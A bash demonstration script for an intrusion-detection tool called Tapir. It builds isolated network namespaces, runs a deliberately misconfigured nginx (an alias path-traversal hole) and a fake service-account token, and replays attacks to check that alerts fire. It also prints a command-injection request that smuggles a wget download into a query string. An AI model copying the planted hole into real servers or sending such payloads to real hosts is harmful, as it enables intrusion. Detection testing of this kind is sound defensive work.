#!/usr/bin/env bash
# A workload is attacked; Tapir, which watches the node's end of its link, tells, here and on the Alerts page.
#
# usage: demo/run.sh BINARY
#
# As root: two network namespaces joined as Calico joins a pod to its node (veth `cali…` with proxy ARP, a
# /32 address, the gateway 169.254.1.1), nginx as the workload, `tapir agent` with the DeepPacketInspection that selects it,
# curl as attacker, and `tapir manager` on loopback, to which the agent delivers its events through its spool.
# The machine's own network is not touched; everything made here is removed on every way out.
# Otherwise: the same attacks from demo/attacks.pcap, a recording of a run, by `tapir scan`.
#
# The page stays until Ctrl-C; without a terminal for DEMO_STAY seconds (300). DEMO_ONCE=1: not at all.
#
# Exit: 0 every expected alert came, 1 one is missing or something failed, 2 usage.
# DEMO_PORT=N is where the page listens (9443; any free one if that is taken).
# DEMO_RECORD=FILE writes what passes the veth (needs tcpdump). DEMO_CAPTURE=1 takes the recording at once.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
[ $# -eq 1 ] || { sed -n 4p "$0" | cut -c3- >&2; exit 2; }
tapir=$(realpath -e "$1" 2>/dev/null) || { echo "demo: $1 does not exist; \`make demo\` builds it" >&2; exit 2; }

namespace=shop workload=frontend-6b64dc9665-97687
pod=10.65.1.9 node=10.240.0.4 gateway=169.254.1.1
# Calico names the link by what it joins: the first 11 hex digits of the SHA-1 of namespace.pod.
link=cali$(printf '%s.%s' "$namespace" "$workload" | sha1sum | cut -c1-11)
patience=10   # seconds for an alert
node_ns=tapir-demo-$$-node pod_ns=tapir-demo-$$-pod
pids=() titles=() sids=() froms=() commands=() meanings=()
work=$(mktemp -d "${TMPDIR:-/tmp}/tapir-demo.XXXXXX")
printed=0 alerts=$work/alerts log=$work/log

if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
  bold=$'\e[1m' dim=$'\e[2m' red=$'\e[31m' green=$'\e[32m' off=$'\e[0m'
else
  bold='' dim='' red='' green='' off=''
fi

cleanup() {
  local pid tries=0
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  for pid in "${pids[@]}"; do
    while kill -0 "$pid" 2>/dev/null && [ $((tries += 1)) -le 60 ]; do sleep 0.05; done
    kill -KILL "$pid" 2>/dev/null || true
  done
  ip netns del "$node_ns" 2>/dev/null || true
  ip netns del "$pod_ns" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

fail() { printf '%sdemo: %s%s\n' "$red" "$1" "$off" >&2; exit 1; }
say() { printf '%s\n' "$*"; }
attack() {
  titles+=("$1") sids+=("$2") froms+=("$3") commands+=("$4")
  meanings+=("$(tr -s ' \n' '  ' <<<"$5")")
}
# shellcheck source=/dev/null
. "$here/attacks.sh"

# --- what is shown ------------------------------------------------------------------------------

# Alerts that came since the last call. The time and the bold rule number help to read the line.
show_new() {
  local line
  while IFS= read -r line; do
    printed=$((printed + 1))
    say "  ${red}▲${off} $(sed -E "s/\[([0-9]+:[0-9]+:[0-9]+)\]/[$bold\1$off]/" <<<"$line")"
  done < <(tail -n +$((printed + 1)) "$alerts")
}
raised_since() { tail -n +$(($1 + 1)) "$alerts" | grep -qF "[1:$2:"; }   # LINE SID
introduce() {  # NUMBER
  say
  say "${bold}$(($1 + 1))  ${titles[$1]}${off}"
  say "  ${dim}${froms[$1]}\$ ${commands[$1]}${off}"
}
explain() { fold -sw 96 <<<"${meanings[$1]}" | sed 's/^/    /; s/ *$//'; }
judge() {  # NUMBER MISSING
  if [ -z "$2" ]; then
    seen=$((seen + 1))
  else
    say "  ${red}✗ no alert by rule${2// / 1:}${off}"
  fi
  explain "$1"
}

# --- live ---------------------------------------------------------------------------------------

# Why a live run is not possible, or nothing.
obstacle() {
  local tool
  [ -z "${DEMO_CAPTURE:-}" ] || { echo "DEMO_CAPTURE is set"; return; }
  [ "$(id -u)" = 0 ] || { echo "network namespaces need root"; return; }
  for tool in ip nginx curl; do
    command -v "$tool" >/dev/null || { echo "$tool is not installed"; return; }
  done
  ip netns add "$node_ns" 2>/dev/null || echo "this system does not let us make network namespaces"
}
# What goes on in the background is started by this command itself: behind a function, $! would be a shell
# whose end leaves the program running.
enter="ip netns exec"
in_node() { $enter "$node_ns" "$@"; }
in_pod() { $enter "$pod_ns" "$@"; }

join_pod() {
  ip netns add "$pod_ns"
  in_node ip link set lo up
  in_pod ip link set lo up
  in_node ip link add "$link" type veth peer name eth0 netns "$pod_ns"
  in_node ip link set "$link" address ee:ee:ee:ee:ee:ee up
  in_node sysctl -qw net.ipv4.ip_forward=1 "net.ipv4.conf.$link.proxy_arp=1" "net.ipv4.neigh.$link.proxy_delay=0"
  in_node ip route add "$pod/32" dev "$link" scope link
  in_pod ip addr add "$pod/32" dev eth0
  in_pod ip link set eth0 up
  in_pod ip route add "$gateway" dev eth0 scope link
  in_pod ip route add default via "$gateway" dev eth0
  # The node answers for the gateway because it has a way out; where no dummy link can be made, the pod is
  # told the answer instead.
  if in_node ip link add eth0 type dummy 2>/dev/null; then
    in_node ip addr add "$node/24" dev eth0
    in_node ip link set eth0 up
    in_node ip route add default dev eth0
  else
    in_node ip addr add "$node/32" dev lo
    in_pod ip neigh add "$gateway" lladdr ee:ee:ee:ee:ee:ee dev eth0 nud permanent
  fi
}

start_workload() {
  local claims='{"iss":"kubernetes/serviceaccount","kubernetes.io/serviceaccount/namespace":"shop","sub":"system:serviceaccount:shop:frontend"}'
  encode() { base64 -w0 | tr '+/' '-_' | tr -d =; }
  mkdir -p "$work/run/www" "$work/run/secrets/kubernetes.io/serviceaccount"
  echo '<html><body><h1>Shop</h1></body></html>' >"$work/run/www/index.html"
  printf '%s.%s.%s' "$(printf '{"alg":"RS256","kid":"demo"}' | encode)" "$(printf '%s' "$claims" | encode)" \
    "made-for-the-demonstration" >"$work/run/secrets/kubernetes.io/serviceaccount/token"
  cat >"$work/nginx.conf" <<CONF
daemon off; master_process off; pid $work/nginx.pid; error_log $work/nginx.err;
events { worker_connections 64; }
http {
  access_log off; default_type text/html; server_tokens off;
  client_body_temp_path $work/t1; proxy_temp_path $work/t2; fastcgi_temp_path $work/t3;
  uwsgi_temp_path $work/t4; scgi_temp_path $work/t5;
  server {
    listen $pod:8080;
    root $work/run/www;
    # The well-known slip: without a slash at its end, /static.. leaves the folder.
    location /static { alias $work/run/www/; }
    location = / { error_page 405 =200 /index.html; }
  }
}
CONF
  $enter "$pod_ns" nginx -c "$work/nginx.conf" -e "$work/nginx.err" 2>"$work/nginx.out" &
  pids+=($!)
  wait_for "nginx" "$work/nginx.err" in_node curl -s -o /dev/null --max-time 1 "http://$pod:8080/"
}

# Whether a command succeeds in time; the newest process must still be alive.
comes_true() {  # COMMAND…
  local tries=0
  until "$@"; do
    if ! kill -0 "${pids[-1]}" 2>/dev/null || [ $((tries += 1)) -gt 200 ]; then return 1; fi
    sleep 0.05
  done
}
wait_for() {  # WHAT LOG COMMAND…
  local what=$1 file=$2
  shift 2
  comes_true "$@" || { cat "$file" >&2; fail "$what did not start"; }
}

# The manager, with its data in the demonstration's own folder. What it prints at its first start are its tokens.
start_manager() {
  local at
  for at in "127.0.0.1:${DEMO_PORT:-9443}" 127.0.0.1:0; do
    "$tapir" manager --data-dir "$work/manager" --listen "$at" --ready-file "$work/manager.ready" \
      >"$work/tokens" 2>"$work/manager.log" &
    pids+=($!)
    if comes_true test -e "$work/manager.ready"; then
      page=http://$(tr -d '\n' <"$work/manager.ready")
      admin=$(sed -n 's/^admin token: //p' "$work/tokens")
      way_in=$(sed -n 's/^sign in, once: //p' "$work/tokens")
      sed -n 's/^agent token: //p' "$work/tokens" >"$work/agent.token"
      return
    fi
    grep -q 'Address already in use' "$work/manager.log" || break
  done
  cat "$work/manager.log" >&2
  fail "tapir manager did not start"
}

# Asks the manager, as the page does.
ask() { curl -sf --max-time 5 -H "Authorization: Bearer $admin" "$page/api/v1/$1"; }

start_tapir() {
  : >"$alerts"
  cat >"$work/tapir.toml" <<CONF
[delivery]
spool = "$work/spool"
node = "demo-node"

[[delivery.sink]]
name = "page"
manager = { url = "$page", token_file = "$work/agent.token", http = { allow_local = true } }
CONF
  mkdir "$work/resources"
  cat >"$work/resources/shop.yaml" <<YAML
apiVersion: projectcalico.org/v3
kind: DeepPacketInspection
metadata: {name: frontend, namespace: $namespace}
spec: {selector: 'app == "frontend"'}
---
apiVersion: tapir.dev/v1alpha1
kind: Endpoint
metadata: {name: $workload, namespace: $namespace, labels: {app: frontend}}
spec: {interface: $link, addresses: [$pod], owner: {kind: Deployment, name: frontend}, service: frontend}
YAML
  "$tapir" agent --resources "$work/resources" --netns "$node_ns" --config "$work/tapir.toml" --format fast \
    --health 127.0.0.1:0 >"$alerts" 2>"$log" &
  pids+=($!)
  watcher=$!
  wait_for "tapir agent" "$log" grep -q "inspected for $namespace/frontend" "$log"
}

run_command() {  # NUMBER
  local command=${commands[$1]}
  if [ "${froms[$1]}" = pod ]; then
    in_pod bash -c "$command"
  else
    in_node bash -c "${command/curl /curl -s -o /dev/null --max-time 5 --path-as-is }"
  fi
}

live() {
  join_pod
  start_workload
  start_manager
  if [ -n "${DEMO_RECORD:-}" ]; then
    $enter "$node_ns" tcpdump -q -n -U -i "$link" -w "$DEMO_RECORD" 'tcp or udp' 2>"$work/tcpdump" &
    pids+=($!)
    recorder=$!
    wait_for tcpdump "$work/tcpdump" grep -q 'listening on' "$work/tcpdump"
  fi
  start_tapir
  say "  pod   $namespace/$workload   $pod:8080   nginx"
  say "  node  $link   $("$tapir" --version) watches here, outside the pod"
  say "  page  $page"
  say
  say "${bold}0  An ordinary visit${off}"
  say "  ${dim}visitor\$ curl http://$pod:8080/${off}"
  in_node curl -s -o /dev/null --max-time 5 "http://$pod:8080/" || fail "the workload does not answer"
  sleep 0.5
  show_new
  [ "$printed" = 0 ] || fail "an alert for an ordinary request"
  say "    No alert, as it should be."
  local number
  for number in "${!titles[@]}"; do attack_live "$number"; done
  on_the_page
  if [ -n "${DEMO_ONCE:-}" ]; then end_watch; fi
  if [ -n "${DEMO_RECORD:-}" ]; then sleep 1; kill -TERM "$recorder"; wait "$recorder" || true; fi
}

end_watch() {
  kill -TERM "$watcher"   # what bash starts in the background ignores INT
  wait "$watcher" || { cat "$log" >&2; fail "tapir agent ended with an error"; }
  show_new
}

# Every alert that was printed stands in the manager's store, with the bytes that matched.
on_the_page() {
  local tries=0 stored event
  until stored=$(ask "events?q=node:demo-node&limit=500") && [ "$(grep -o '"id":"demo-node-' <<<"$stored" | wc -l)" -ge "$printed" ]; do
    [ $((tries += 1)) -le $((patience * 20)) ] || { cat "$log" "$work/manager.log" >&2; fail "alerts are missing on the page"; }
    sleep 0.05
  done
  event=$(ask "events?q=sid:21562&limit=1" | grep -o 'demo-node-[0-9]*-[0-9]*' | head -1)
  ask "events/$event" | grep -q '"matches":\[{' || fail "the page does not have the bytes that matched"
  ask "events/$event" | grep -q '"owner_name":"frontend"' || fail "the page does not name the workload"
}

attack_live() {  # NUMBER
  local before=$printed missing sid tries=0
  introduce "$1"
  run_command "$1" || fail "the attack itself failed; is the workload still there?"
  while :; do
    missing=
    for sid in ${sids[$1]}; do raised_since "$before" "$sid" || missing+=" $sid"; done
    show_new
    if [ -z "$missing" ] || [ $((tries += 1)) -gt $((patience * 20)) ]; then break; fi
    kill -0 "$watcher" 2>/dev/null || { cat "$log" >&2; fail "tapir ended"; }
    sleep 0.05
  done
  judge "$1" "$missing"
}

# --- from the recording -------------------------------------------------------------------------

from_capture() {
  "$tapir" scan "$here/attacks.pcap" --format fast --no-summary >"$work/all" 2>"$log" || { cat "$log" >&2; fail "tapir scan failed"; }
  say "  pod   $namespace/$workload   $pod:8080   nginx"
  say "  read  demo/attacks.pcap, recorded on the pod's link"
  local number sid missing
  : >"$alerts"
  for number in "${!titles[@]}"; do
    introduce "$number"
    missing=
    for sid in ${sids[$number]}; do
      grep -F "[1:$sid:" "$work/all" >>"$alerts" || missing+=" $sid"
    done
    show_new
    judge "$number" "$missing"
  done
}

# The recording's alerts on the page. What it prints are the link that signs in and the token.
serve_capture() {
  "$tapir" scan "$here/attacks.pcap" --serve --quiet --format fast --no-summary >/dev/null 2>"$log" &
  pids+=($!)
  watcher=$!
  wait_for "tapir scan --serve" "$log" grep -q '^admin token' "$log"
  way_in=$(sed -n 's/^Alerts page, until Ctrl-C: //p' "$log")
  admin=$(sed -n 's/^admin token.*: //p' "$log")
  page=${way_in%%/alerts*}
}

# --- and so -------------------------------------------------------------------------------------

# Until Ctrl-C; for a while if nobody can press it.
stay() {
  local until
  [ -z "${DEMO_ONCE:-}" ] || return 0
  trap 'say; exit 0' INT TERM HUP
  if [ -t 0 ] || [ -t 1 ]; then
    say "  It stays until you press Ctrl-C."
    [ -n "$reason" ] || say "  Attack the pod again and watch: ip netns exec $node_ns curl 'http://$pod:8080/?x=;wget+http://a/b'"
    until=$((SECONDS + 86400))
  else
    say "  No terminal: it stays for ${DEMO_STAY:-300} s."
    until=$((SECONDS + ${DEMO_STAY:-300}))
  fi
  while [ $SECONDS -lt $until ]; do
    kill -0 "$watcher" 2>/dev/null || { cat "$log" >&2; fail "tapir ended"; }
    sleep 0.5
    show_new
  done
}

seen=0 page='' way_in=''
say "${bold}Tapir: a workload is attacked${off}"
reason=$(obstacle)
if [ -z "$reason" ]; then
  live
  how=$(grep -iE 'packets' "$log" | tail -1) || how=   # the watch goes on
else
  say "  Not live ($reason): the same attacks from a recording."
  from_capture
  how=
fi
say
if [ "$seen" != ${#titles[@]} ]; then
  say "${red}${bold}$seen of ${#titles[@]} attacks seen.${off} ${dim}$how${off}"
  exit 1
fi
say "${green}${bold}$seen of ${#titles[@]} attacks seen.${off} ${dim}$how${off}"
say "Nothing in the pod was changed. To see what a rule looks for: tapir rules explain 21562"
if [ -z "$page" ] && [ -z "${DEMO_ONCE:-}" ]; then serve_capture; fi
if [ -n "$page" ]; then
  say
  say "${bold}The Alerts page${off}  ${way_in:-$page/}"
  say "  token  $admin"
  say "  The link signs in, once; after that the token does. Each alert has the bytes that matched, and its rule in words."
  stay
fi
